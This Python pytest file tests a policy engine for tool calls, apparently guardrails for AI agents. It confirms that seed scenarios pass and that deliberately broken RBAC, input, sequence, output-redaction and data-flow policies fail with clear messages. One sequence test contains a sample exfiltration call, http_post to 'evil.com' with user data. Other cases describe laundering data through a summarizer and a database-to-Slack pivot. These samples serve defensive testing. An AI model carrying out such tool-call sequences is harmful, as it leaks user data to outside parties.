"""The seeds' tables, written as scenario files, pass; broken variants of their policies fail usefully."""

from __future__ import annotations

from pathlib import Path

import pytest

from d2tools.testing import Status, run

from .conftest import BROKEN, SEEDS, CliRunner

SEED_FILES = sorted(SEEDS.glob("*.d2test.yaml"))


def test_every_seed_table_is_a_scenario_file() -> None:
    names = {p.name for p in SEED_FILES}
    assert names == {
        "rbac.d2test.yaml",
        "input.d2test.yaml",
        "sequence.d2test.yaml",
        "output.d2test.yaml",
        "dataflow.d2test.yaml",
    }


@pytest.mark.parametrize("path", SEED_FILES, ids=lambda p: p.name)
def test_seed_scenarios_pass(path: Path) -> None:
    result = run([path])
    failures = [c for c in result.cases if c.status is Status.FAILED]
    assert not result.problems, result.problems
    assert not failures, [c.failure for c in failures]
    assert result.passed >= 3
    assert result.ok


def test_rbac_table_rows_become_cases() -> None:
    result = run([SEEDS / "rbac.d2test.yaml"], select="viewer or admin")
    names = [c.case.name for c in result.cases]
    assert names[:3] == [
        "alice (viewer) database:read_users -> allow",
        "alice (viewer) database:delete_user -> deny",
        "bob (admin) database:delete_user -> allow",
    ]


def test_seed_suite_through_the_cli(d2_cli: CliRunner) -> None:
    result = d2_cli("test", SEEDS)
    assert result.code == 0, result.out
    assert result.last_line == f"{result.out.count('PASS  ')} passed, 0 failed"
    assert result.out.count("\n") >= 40


def _broken(d2_cli: CliRunner, scenario: str, policy: str) -> str:
    result = d2_cli("test", SEEDS / scenario, "--policy", BROKEN / policy)
    assert result.code == 1, result.out
    assert result.last_line.endswith(" failed")
    assert not result.last_line.endswith(" 0 failed")
    return result.out


def test_rbac_broken_policy_names_the_granting_rule(d2_cli: CliRunner) -> None:
    out = _broken(d2_cli, "rbac.d2test.yaml", "rbac_viewer_deletes.yaml")
    assert "FAIL  " in out and "alice (viewer) database:delete_user -> deny" in out
    block = out.split(
        "FAIL tests/fixtures/scenarios/seeds/rbac.d2test.yaml::alice (viewer) database:delete_user", 1
    )[1]
    assert "expected: deny\n" in block
    assert "actual:   allow\n" in block
    assert "why:      role 'viewer' is granted 'database:delete_user'" in block
    assert "rule:     tests/fixtures/scenarios/broken/rbac_viewer_deletes.yaml:7:9" in block
    assert "| - database:delete_user" in block
    assert "row 2 of its table" in block


def test_input_broken_policy_shows_expected_and_actual(d2_cli: CliRunner) -> None:
    out = _broken(d2_cli, "input.d2test.yaml", "input_limit_1000.yaml")
    assert "FAIL  tests/fixtures/scenarios/seeds/input.d2test.yaml::read_users limit=500 -> denied" in out
    assert "expected: deny (input_validation)\n" in out
    assert "actual:   allow\n" in out
    assert "database:read_users(limit=500)" in out
    assert out.rstrip().endswith("1 failed")


def test_sequence_broken_policy_fails_the_exfiltration_cases(d2_cli: CliRunner) -> None:
    out = _broken(d2_cli, "sequence.d2test.yaml", "sequence_no_direct_rule.yaml")
    assert (
        "FAIL  tests/fixtures/scenarios/seeds/sequence.d2test.yaml::read_users() -> http_post() is denied"
        in out
    )
    assert "step 2 of 2" in out
    assert "expected: deny (sequence_violation)" in out
    assert "web:http_post(url='evil.com', data='users')" in out
    # The 3-hop rule still catches the laundering path.
    assert (
        "PASS  tests/fixtures/scenarios/seeds/sequence.d2test.yaml::read_users() -> analytics:summarize()"
        in out
    )


def test_output_broken_policy_shows_both_values(d2_cli: CliRunner) -> None:
    out = _broken(d2_cli, "output.d2test.yaml", "output_email_filtered.yaml")
    assert "output differs:" in out
    assert 'expected: [{"email": "[REDACTED]", "id": 1, "name": "Alice"}' in out
    assert 'actual:   [{"id": 1, "name": "Alice"}, {"id": 2, "name": "Bob"}]' in out
    assert (
        "FAIL  tests/fixtures/scenarios/seeds/output.d2test.yaml::sanitization filters ssn and redacts email"
        in out
    )
    # A rule named with its file ("output_policy.yaml:33") is not the candidate policy's rule.
    assert "expected: decided by the rule at output_policy.yaml:33" in out


def test_dataflow_broken_policy_fails_the_pivot(d2_cli: CliRunner) -> None:
    out = _broken(d2_cli, "dataflow.d2test.yaml", "dataflow_narrow_block.yaml")
    assert "database.read then slack.post is blocked by SENSITIVE" in out
    assert "expected: deny (data_flow)" in out
    assert "PASS  tests/fixtures/scenarios/seeds/dataflow.d2test.yaml::database.read then http.request" in out
